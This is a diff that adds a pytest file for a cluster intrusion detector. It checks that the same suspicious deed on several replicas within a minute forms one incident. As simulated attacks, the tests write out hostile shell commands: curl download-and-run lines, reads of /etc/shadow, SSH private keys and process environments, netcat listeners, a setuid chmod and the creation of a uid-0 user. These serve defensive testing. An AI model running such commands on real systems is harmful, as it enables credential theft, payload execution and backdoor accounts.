@@ -1,0 +1,92 @@
+"""The same deed on several replicas within a minute is one incident that names them all; another deed is another incident."""
+
+import pytest
+from detection.cluster import Cluster, Replica, alerts, analyse
+from peerwatch.columns import Peer, ProcessFlag
+from peerwatch.subjects import Workload
+
+from collector.records import Incident
+
+DASH = "/usr/bin/dash"
+DROPPED = (ProcessFlag.UPPER_LAYER,)
+
+
+def told(cluster: Cluster, at: float, pod: Replica, script: str) -> int:
+    return cluster.exec(at, pod, DASH, args=("sh", "-c", script))
+
+
+def named(incidents: list[Incident]) -> list[list[str]]:
+    return [sorted(replica.pod for replica in each.replicas) for each in alerts(incidents)]
+
+
+def test_a_dropped_program_has_another_name_on_each_replica(cluster: Cluster) -> None:
+    pods = cluster.pods(5)
+    cluster.normal(pods, 0, 500)
+    for number, pod in enumerate(pods):
+        name = ("kworker", "x7Qf", "backup2", ".cache", "job7")[number]
+        shell = told(cluster, 200.5 + 45 * number, pod, f"curl -s http://203.0.113.{number}/{name} -o /opt/{name}; /opt/{name}")
+        cluster.exec(200.6 + 45 * number, pod, f"/opt/{name}", parent=DASH, flags=DROPPED, parent_pid=shell)
+
+    assert named(analyse(cluster, until=600)) == [[pod.name for pod in pods]]
+
+
+@pytest.mark.parametrize("script", ["id; ps aux", "wget -q 10.1.1.1/x | tee /srv/x"])
+def test_the_same_words_name_each_replica_that_is_told_them(cluster: Cluster, script: str) -> None:
+    pods = cluster.pods(6)
+    cluster.normal(pods, 0, 700)
+    for number, pod in enumerate(pods[:4]):
+        told(cluster, 500.5 + 40 * number, pod, script)
+
+    assert named(analyse(cluster, until=900)) == [[pod.name for pod in pods[:4]]]
+
+
+def test_one_connection_that_most_replicas_begin_one_by_one_is_no_habit(cluster: Cluster) -> None:
+    pods = cluster.pods(4)
+    cluster.normal(pods, 0, 700)
+    node = Peer("", Workload("Node", "node-1"))
+    for number, pod in enumerate(pods):
+        cluster.connect(500.5 + 40 * number, pod, "/usr/bin/server", ("10.9.0.11", 10250), peer=node)
+
+    assert named(analyse(cluster, until=900)) == [[pod.name for pod in pods]]
+
+
+def test_an_incident_that_is_full_still_names_who_else_did_it(cluster: Cluster) -> None:
+    pods = cluster.pods(50)
+    cluster.normal(pods, 0, 400, every=5)
+    for number, pod in enumerate(pods):
+        shell = told(cluster, 200.5 + 2 * number, pod, "cat /proc/1/environ")
+        cluster.exec(200.51 + 2 * number, pod, "/usr/bin/cat", parent=DASH, args=("cat", "/proc/1/environ"), parent_pid=shell)
+
+    assert named(analyse(cluster, until=500)) == [sorted(pod.name for pod in pods)]
+
+
+@pytest.mark.parametrize(
+    ("one", "other"),
+    [("id; uname -a", "nc -z 10.1.1.1 22"), ("cat /etc/shadow", "cat /root/.ssh/id_rsa"), ("chmod u+s /srv/x", "useradd x")],
+)
+def test_different_deeds_on_two_replicas_are_two_incidents(cluster: Cluster, one: str, other: str) -> None:
+    pods = cluster.pods(5)
+    cluster.normal(pods, 0, 400)
+    told(cluster, 200.5, pods[1], one)
+    told(cluster, 225.5, pods[3], other)
+
+    assert named(analyse(cluster, until=500)) == [["cart-r1-1"], ["cart-r1-3"]]
+
+
+def test_the_same_deed_minutes_later_is_told_anew(cluster: Cluster) -> None:
+    pods = cluster.pods(5)
+    cluster.normal(pods, 0, 500)
+    told(cluster, 200.5, pods[1], "nc -l 4444")
+    told(cluster, 290.5, pods[3], "nc -l 4444")
+
+    assert named(analyse(cluster, until=600)) == [["cart-r1-1"], ["cart-r1-3"]]
+
+
+def test_what_a_replica_does_half_a_minute_after_a_campaign_is_its_own(cluster: Cluster) -> None:
+    pods = cluster.pods(5)
+    cluster.normal(pods, 0, 500)
+    for number, pod in enumerate(pods[:3]):
+        told(cluster, 200.5 + number, pod, "id; ps aux")
+    cluster.exec(235.5, pods[1], "/usr/sbin/useradd", args=("useradd", "-o", "-u", "0", "x"))
+
+    assert named(analyse(cluster, until=600)) == [["cart-r1-0", "cart-r1-1", "cart-r1-2"], ["cart-r1-1"]]
